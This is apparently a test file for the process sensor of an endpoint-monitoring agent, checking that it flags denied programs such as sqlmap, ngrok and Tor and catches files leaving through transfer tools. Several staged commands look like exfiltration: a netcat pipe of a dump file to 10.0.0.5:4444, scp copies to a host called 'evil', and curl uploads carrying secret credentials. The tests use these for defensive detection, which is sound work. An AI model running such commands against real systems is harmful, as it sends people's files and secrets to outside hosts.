// With real processes: the connector needs root; without it the sensor looks at /proc, and its test runs everywhere.
import { spawn } from 'node:child_process'
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, openSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { createLinuxPlatform } from '../platform/linux/platform.ts'
import { createFakePlatform, type FakePlatform } from '../platform/fake-platform.ts'
import type { Platform } from '../platform/platform.ts'
import { type FakeMemory, type FakeRun, startSensor, until } from './fake-context.ts'
import { processesSensor } from './processes.ts'
import { openConnector, parseExec } from './processes/connector.ts'
import { containerOf, readStarted } from './processes/started.ts'

const DENIED = 'holdfast-denied'

const canConnect = (): boolean => {
  if (process.platform !== 'linux' || process.geteuid?.() !== 0) return false
  try {
    openConnector().close()
    return true
  } catch {
    return false
  }
}

let folder: string
let memory: FakeMemory
let run: FakeRun | undefined
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'holdfast-processes-'))
  memory = new Map()
})
afterEach(async () => {
  await run?.stop()
  run = undefined
  rmSync(folder, { recursive: true, force: true })
})

type Settings = NonNullable<Parameters<typeof startSensor>[1]['policy']['applications']>

const start = (platform: Platform, settings: Settings): FakeRun => {
  run = startSensor(processesSensor, { platform, memory, agentFolder: join(folder, 'agent'), policy: { applications: settings, files: { hashLimitBytes: 1 << 20, excludes: ['*.private'] } } })
  return run
}

/** A program under a name of its own that runs until its input ends. */
function putProgram(name: string, from = '/bin/cat'): string {
  const path = join(folder, name)
  copyFileSync(from, path)
  chmodSync(path, 0o755)
  return path
}

/** Runs it below a shell, as a person would: children of the agent itself do not count. */
async function runProgram(command: string): Promise<void> {
  const child = spawn('/bin/sh', ['-c', `${command}; :`], { cwd: folder, stdio: 'ignore' })
  await new Promise((resolve) => child.once('exit', resolve))
}

const platform = createLinuxPlatform()

describe.skipIf(!canConnect())('with the kernel’s connector', () => {
  test('the first run of a denied program by a person, once, however short it is', async () => {
    const program = putProgram(DENIED, '/bin/sleep')
    const now = start(platform, { runs: true, deniedPrograms: [DENIED] })
    await until(() => now.reports.length > 0)
    expect(now.reports.at(-1)).toEqual({ tier: 'full', reason: '', fix: '' })
    await runProgram(`${program} 0.2`)
    await until(() => now.emitted.length === 1)
    await runProgram(`${program} 0.2`)
    await runProgram(`'${putProgram('marker', '/bin/sleep')}' 0`)
    await now.stop()
    expect(now.emitted).toHaveLength(1)
    expect(now.emitted[0]).toMatchObject({ kind: 'application_run', actor: { attribution: 'process', process: { executable: program, parentName: 'sh' } }, detail: { applicationRun: { application: { name: DENIED, source: 'run', path: program } } } })
    expect(now.emitted[0]?.recovered).toBeUndefined()
  })

  test('an upload names its file and its host, and nothing else of the command line', async () => {
    // A shell under the tool's name, with a script under the name of the host: it lasts a moment and sends nothing.
    const tool = putProgram('curl', '/bin/sh')
    writeFileSync(join(folder, 'files.example.org'), 'sleep 0.3\n')
    writeFileSync(join(folder, 'plan.txt'), 'plan')
    const now = start(platform, { transfers: true })
    await until(() => now.reports.length > 0)
    await runProgram(`'${tool}' files.example.org -u bob:SECRET -T plan.txt --header 'Authorization: SECRET'`)
    await until(() => now.emitted.length === 1)
    expect(now.emitted[0]).toMatchObject({ kind: 'file_read_by_transfer_tool', detail: { fileReadByTransferTool: { tool: 'curl', destination: 'files.example.org', file: { path: join(folder, 'plan.txt'), sizeBytes: 4, state: 'stable' } } } })
    expect(JSON.stringify([now.emitted, [...memory]])).not.toContain('SECRET')
  })

  test('a file behind the standard input of a program that sends', async () => {
    const tool = putProgram('nc', '/bin/sh')
    writeFileSync(join(folder, '10.0.0.5'), 'sleep 0.3\n')
    writeFileSync(join(folder, 'dump'), 'dump')
    const now = start(platform, { transfers: true })
    await until(() => now.reports.length > 0)
    await runProgram(`'${tool}' 10.0.0.5 4444 < dump`)
    await until(() => now.emitted.length === 1)
    expect(now.emitted[0]?.detail.fileReadByTransferTool).toMatchObject({ tool: 'nc', destination: '10.0.0.5:4444', file: { path: join(folder, 'dump') } })
  })

  test.skipIf(!existsSync('/usr/bin/curl'))('curl itself, to a port where nobody listens', async () => {
    writeFileSync(join(folder, 'a.txt'), 'a')
    const now = start(platform, { transfers: true })
    await until(() => now.reports.length > 0)
    await runProgram('/usr/bin/curl -s --retry 2 --retry-connrefused --retry-delay 1 -F file=@a.txt http://127.0.0.1:9/')
    await until(() => now.emitted.length === 1)
    expect(now.emitted[0]).toMatchObject({ actor: { process: { name: 'curl', executable: '/usr/bin/curl' } }, detail: { fileReadByTransferTool: { destination: '127.0.0.1:9', file: { path: join(folder, 'a.txt') } } } })
  })

  test('two hundred starts in a row are all heard', async () => {
    const now = start(platform, { runs: true, deniedPrograms: [DENIED] })
    await until(() => now.reports.length > 0)
    await runProgram('for i in $(seq 200); do /bin/true; done')
    await runProgram(`'${putProgram(DENIED, '/bin/sleep')}' 0.2`)
    await until(() => now.emitted.length === 1)
    expect(await processesSensor.selfTest?.(now.context)).toBe(true)
  })
})

describe('with a look at /proc', () => {
  const withoutRoot: Platform = { ...platform, elevated: false }

  test('says what it misses and why, and sees what runs longer', async () => {
    const program = putProgram(DENIED)
    const now = start(withoutRoot, { runs: true, deniedPrograms: [DENIED] })
    await until(() => now.reports.length > 0)
    expect(now.reports[0]).toMatchObject({ tier: 'degraded', reason: 'the agent does not run as root; programs that run for less than 1 second are missed' })
    const child = spawn('/bin/sh', ['-c', `'${program}'; :`], { stdio: ['pipe', 'ignore', 'ignore'] })
    await until(() => now.emitted.length === 1)
    child.stdin.end()
    await new Promise((resolve) => child.once('exit', resolve))
    expect(now.emitted[0]).toMatchObject({ kind: 'application_run', detail: { applicationRun: { application: { name: DENIED } } } })
  })

  test('what runs at the very first start is no news; what began while the agent was off is', async () => {
    const first = putProgram(DENIED)
    const second = putProgram('holdfast-other')
    const keep = (path: string) => spawn('/bin/sh', ['-c', `'${path}'; :`], { stdio: ['pipe', 'ignore', 'ignore'] })
    const one = keep(first)
    await until(() => existsSync(`/proc/${one.pid}/task/${one.pid}/children`))
    await until(() => [...childrenOf(one.pid)].some((pid) => readStarted('/', pid)?.name === DENIED))
    const settings = { runs: true, deniedPrograms: [DENIED, 'holdfast-other'] }
    const now = start(withoutRoot, settings)
    await until(() => now.reports.length > 0)
    await now.stop()
    expect(now.emitted).toEqual([])
    const two = keep(second)
    await until(() => [...childrenOf(two.pid)].some((pid) => readStarted('/', pid)?.name === 'holdfast-other'))
    const again = start(withoutRoot, settings)
    await until(() => again.emitted.length === 1)
    expect(again.emitted[0]).toMatchObject({ recovered: true, detail: { applicationRun: { application: { name: 'holdfast-other' } } } })
    for (const child of [one, two]) {
      child.stdin.end()
      await new Promise((resolve) => child.once('exit', resolve))
    }
  })
})

function childrenOf(pid: number | undefined): readonly number[] {
  const device = createLinuxPlatform()
  return Array.from({ length: 64 }, (_, index) => (pid ?? 0) + index + 1).filter((each) => device.process(each)?.ppid === pid)
}

describe('a device that is played', () => {
  let device: FakePlatform
  beforeEach(() => {
    device = createFakePlatform({}, { elevated: false })
  })
  afterEach(async () => {
    await run?.stop()
    run = undefined
    device.dispose()
  })

  const addProcess = (pid: number, name: string, words: readonly string[], more: { readonly cwd?: string; readonly executable?: string; readonly uid?: number } = {}): void => {
    device.write(`/proc/${pid}/stat`, `${pid} (${name}) S 1 ${pid}\n`)
    device.write(`/proc/${pid}/status`, `Name:\t${name}\nPPid:\t1\nUid:\t${more.uid ?? 1000}\t0\t0\t0\n`)
    device.write(`/proc/${pid}/comm`, `${name.slice(0, 15)}\n`)
    device.write(`/proc/${pid}/cmdline`, words.map((word) => `${word}\0`).join(''))
    symlinkSync(more.cwd ?? folder, join(device.root, `/proc/${pid}/cwd`))
    symlinkSync(more.executable ?? `/usr/bin/${name}`, join(device.root, `/proc/${pid}/exe`))
  }

  test('a script is known by its name and its own file, not by its interpreter', async () => {
    const now = start(device, { runs: true, deniedPrograms: ['sqlmap'] })
    await until(() => now.reports.length > 0)
    addProcess(500, 'sqlmap', ['python3', '/opt/sqlmap/sqlmap', '-u', 'x'], { executable: '/usr/bin/python3.12' })
    await until(() => now.emitted.length === 1)
    expect(now.emitted[0]?.detail.applicationRun?.application).toMatchObject({ name: 'sqlmap', path: '/opt/sqlmap/sqlmap' })
  })

  test('a program in a container is told with it', async () => {
    const now = start(device, { runs: true, deniedPrograms: ['ngrok'] })
    await until(() => now.reports.length > 0)
    device.write('/proc/500/cgroup', `0::/system.slice/docker-${'c'.repeat(64)}.scope\n`)
    addProcess(500, 'ngrok', ['ngrok', 'http', '80'])
    await until(() => now.emitted.length === 1)
    expect(now.emitted[0]?.actor?.process).toMatchObject({ name: 'ngrok', container: 'cccccccccccc' })
  })

  test('each person’s first run counts, and what is allowed never does', async () => {
    const now = start(device, { runs: true, deniedPrograms: ['ngrok', 'Tor'], allowedPrograms: ['TOR'] })
    await until(() => now.reports.length > 0)
    addProcess(500, 'tor', ['tor'])
    addProcess(501, 'ngrok', ['ngrok'])
    addProcess(502, 'ngrok', ['ngrok'])
    addProcess(503, 'ngrok', ['ngrok'], { uid: 1001 })
    await until(() => now.emitted.length === 2)
    await now.stop()
    expect(now.emitted.map(({ actor }) => actor?.uid)).toEqual([1000, 1001])
  })

  test('known destinations and private files are not told', async () => {
    writeFileSync(join(folder, 'a.private'), 'x')
    writeFileSync(join(folder, 'b'), 'x')
    const now = start(device, { transfers: true, knownDestinations: ['nas', '.example.org'] })
    await until(() => now.reports.length > 0)
    addProcess(500, 'scp', ['scp', 'b', 'nas:x'])
    addProcess(501, 'scp', ['scp', 'b', 'bob@in.example.org:x'])
    addProcess(502, 'scp', ['scp', 'a.private', 'evil:x'])
    addProcess(503, 'scp', ['scp', 'a.private', 'b', 'evil:x'])
    await until(() => now.emitted.length === 1)
    await now.stop()
    expect(now.emitted.map(({ detail }) => detail.fileReadByTransferTool)).toMatchObject([{ tool: 'scp', destination: 'evil', file: { path: join(folder, 'b') } }])
  })

  test('a push counts once for each person and place; the remote is looked up in the working copy', async () => {
    mkdirSync(join(folder, '.git'))
    writeFileSync(join(folder, '.git/config'), '[remote "origin"]\n\turl = https://bob:SECRET@git.elsewhere.example/x.git\n')
    const now = start(device, { transfers: true })
    await until(() => now.reports.length > 0)
    addProcess(500, 'git', ['git', 'push'])
    await until(() => now.emitted.length === 1)
    addProcess(501, 'git', ['git', 'push', 'origin'])
    addProcess(502, 'git', ['git', 'push', 'git@other.example:x'])
    await until(() => now.emitted.length === 2)
    await now.stop()
    expect(now.emitted.map(({ detail }) => detail.fileReadByTransferTool?.destination)).toEqual(['git.elsewhere.example', 'other.example'])
    expect(JSON.stringify([now.emitted, [...memory]])).not.toContain('SECRET')
  })
})

describe('what /proc says', () => {
  test('of itself', () => {
    const child = spawn('/bin/sleep', ['30'], { cwd: folder, stdio: [openSync('/etc/passwd', 'r'), 'ignore', 'ignore'] })
    const found = readStarted('/', child.pid ?? 0)
    child.kill()
    expect(found).toMatchObject({ pid: child.pid, cwd: folder, input: '/etc/passwd' })
  })

  test.each([
    [`0::/system.slice/docker-${'a'.repeat(64)}.scope\n`, 'aaaaaaaaaaaa'], [`12:cpu:/kubepods/pod1/${'b'.repeat(64)}\n`, 'bbbbbbbbbbbb'], ['0::/user.slice/user-1000.slice/app.slice/app-flatpak-org.example.Tool-1234.scope\n', 'flatpak-org.example.Tool'],
    ['0::/user.slice/user-1000.slice/snap.firefox.firefox-1234.scope\n', 'snap.firefox.firefox'], ['0::/user.slice/session-2.scope\n', ''], ['', ''],
  ])('%j is the container %j', (cgroup, expected) => expect(containerOf(cgroup)).toBe(expected))

  test('a message that is short or tells of something else is no start', () => {
    const message = Buffer.alloc(76)
    expect([parseExec(message), parseExec(message.subarray(0, 40)), parseExec(Buffer.alloc(0))]).toEqual([undefined, undefined, undefined])
    message.writeUInt32LE(2, 36)
    message.writeUInt32LE(4711, 56)
    expect(parseExec(message)).toBe(4711)
  })
})
